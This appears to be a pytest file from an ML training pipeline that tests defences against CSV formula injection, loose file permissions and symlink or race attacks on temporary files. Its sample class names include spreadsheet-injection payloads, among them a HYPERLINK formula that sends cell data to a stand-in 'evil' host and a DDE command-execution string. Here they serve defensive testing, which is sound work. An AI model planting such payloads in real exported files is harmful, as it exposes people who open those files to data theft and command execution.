"""What the pipeline writes stays safe to open and private when asked (issue 26, item 8): class names
from a dataset cannot run as spreadsheet formulas; outputs follow the umask, and `private` makes them
owner-only."""

import csv
import os
import stat
from pathlib import Path

import pandas as pd
import pytest
import torch
from helpers import snakemake

from rectrain import evaluate

NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "tench"]


def test_class_names_that_start_a_formula_are_written_as_text_in_per_class_csv(tmp_path):
    classes = pd.DataFrame({"label": [str(i) for i in range(5)], "wnid": ["=w", "n1", "n2", "n3", "n4"], "name": NAMES})
    confusion = torch.eye(5, dtype=torch.long) * 3
    confusion[0, 1] = 1
    evaluate.write_outputs(tmp_path, {"top1": 0.9}, evaluate.per_class(confusion, classes))
    with open(tmp_path / "per_class.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [row["name"] for row in rows] == ["'" + name for name in NAMES[:4]] + ["tench"]
    assert rows[0]["wnid"] == "'=w" and rows[1]["most_confused_wnid"] == ""
    assert rows[0]["most_confused_wnid"] == "n1" and rows[0]["accuracy"] == "0.75" and rows[0]["images"] == "4"


def modes(root: Path, *paths: str) -> dict[str, int]:
    return {p: stat.S_IMODE((root / p).stat().st_mode) for p in paths}


@pytest.mark.slow
def test_outputs_follow_the_umask_and_private_makes_them_and_existing_folders_owner_only(tmp_path):
    outputs = ("results", "logs", "results/demo/index", "results/demo/index/train.tsv", "logs/index_raw/demo.log")
    old = os.umask(0o022)
    try:
        target = "results/demo/index/train.tsv"
        snakemake("--cores", "1", "--directory", str(tmp_path), target, check=True)
        assert modes(tmp_path, *outputs) == dict(zip(outputs, [0o755, 0o755, 0o755, 0o644, 0o644], strict=True))
        # turning it on closes what earlier runs wrote, without rerunning anything...
        dry = snakemake("-n", target, "--directory", str(tmp_path), "--config", "private=true", check=True)
        assert "Nothing to be done" in dry.stdout, dry.stdout
        assert modes(tmp_path, "results", "logs", "benchmarks", ".snakemake") == dict.fromkeys(
            ["results", "logs", "benchmarks", ".snakemake"], 0o700
        )
        # ...and what jobs write from then on is owner-only
        args = ("--cores", "1", "--directory", str(tmp_path), "--forcerun", "index_raw", "--config", "private=true")
        snakemake(target, *args, check=True)
        # (results/demo/index/ was kept as it was, 0755, inside results/, now 0700)
        assert modes(tmp_path, *outputs[3:]) == dict(zip(outputs[3:], [0o600, 0o600], strict=True))
    finally:
        os.umask(old)


# ---- issue #38 item 9: temporaries in results/ are created exclusively, never through a link -----


def test_a_link_planted_at_a_checkpoints_old_temporary_name_is_never_written_through(tmp_path):
    import torch

    from rectrain import atomic

    victim = tmp_path / "victim"
    victim.write_bytes(b"the victim's own line\n")
    (tmp_path / f".last.pt.tmp{os.getpid()}").symlink_to(victim)  # the name every write used
    atomic.write_with(tmp_path / "last.pt", lambda tmp: torch.save({"epoch": 1}, tmp))
    assert victim.read_bytes() == b"the victim's own line\n"
    assert torch.load(tmp_path / "last.pt", weights_only=True) == {"epoch": 1}
    assert not [p for p in tmp_path.iterdir() if ".tmp" in p.name and not p.is_symlink()], "a temporary was left"


def test_a_link_planted_at_steps_csv_tmp_is_never_written_through(tmp_path):
    from rectrain.train import telemetry

    victim = tmp_path / "victim"
    victim.write_bytes(b"the victim's own line\n")
    log = telemetry.step_log(tmp_path, rank=0, start_epoch=0)
    log.write(
        rank=0, epoch=0, step=0, time=1.7e9, wall_s=1.0, data_wait_s=0.2, compute_s=0.8, images=8, loss=1.0, lr=0.1
    )
    log.close()
    (tmp_path / "steps.csv.tmp").symlink_to(victim)
    telemetry.merge_steps(tmp_path, tmp_path / "steps.csv", world_size=1)
    assert victim.read_bytes() == b"the victim's own line\n"
    assert (tmp_path / "steps.csv").read_text().splitlines()[0].startswith("rank,epoch,step")


# ---- issue 47 item 8 and the CsvLog leftover: never through a link ---------------------------------


@pytest.mark.parametrize("name", ["weights.json", "last.pt"])
def test_a_temporary_swapped_for_a_link_after_its_creation_is_never_written_through(tmp_path, monkeypatch, name):
    """A racer in a folder others may write to replaces the fresh temporary by a link to a victim's file
    the moment it exists (the window every write had): the write goes to the file created, never through
    the link, and nothing is published."""
    import torch

    from rectrain import atomic, safefs
    from rectrain.train.lifecycle import checkpoint

    victim = tmp_path / "victim"
    victim.write_bytes(b"the victim's own line\n")
    create_new = safefs.create_new

    def racer_wins(path, *args, **kwargs):
        fd = create_new(path, *args, **kwargs)
        os.unlink(path)
        os.symlink(victim, path)
        return fd

    monkeypatch.setattr(safefs, "create_new", racer_wins)
    with pytest.raises(atomic.TemporaryReplaced):
        if name == "last.pt":
            checkpoint.save_atomic({"epoch": 1, "w": torch.zeros(4)}, tmp_path / name)
        else:
            atomic.write_json(tmp_path / name, {"top1": 0.9})
    assert victim.read_bytes() == b"the victim's own line\n"
    assert not (tmp_path / name).exists()


def test_a_link_planted_at_a_live_csv_log_is_replaced_never_written_through_or_cut(tmp_path):
    from rectrain.train import telemetry

    victim = tmp_path / "victim.csv"
    victim.write_bytes(b"rank,epoch,step\nthe victim's own rows\n")
    for name in ("steps_rank0.csv", "system_node0.csv"):
        (tmp_path / name).symlink_to(victim)
    fresh = telemetry.step_log(tmp_path, rank=0, start_epoch=0)
    fresh.write(
        rank=0, epoch=0, step=0, time=1.0, wall_s=1.0, data_wait_s=0.2, compute_s=0.8, images=8, loss=1.0, lr=0.1
    )
    fresh.close()
    (tmp_path / "steps_rank0.csv").unlink()
    (tmp_path / "steps_rank0.csv").symlink_to(victim)
    resumed = telemetry.step_log(tmp_path, rank=0, start_epoch=1)  # a resume cuts the kept log after epoch 0
    resumed.close()
    sampler = telemetry.SystemSampler(tmp_path / "system_node0.csv", 60, None, [], append=True)
    sampler._f.close()
    assert victim.read_bytes() == b"rank,epoch,step\nthe victim's own rows\n"
    assert not (tmp_path / "steps_rank0.csv").is_symlink() and not (tmp_path / "system_node0.csv").is_symlink()
    assert (tmp_path / "system_node0.csv").read_text().startswith("time,cpu_percent")
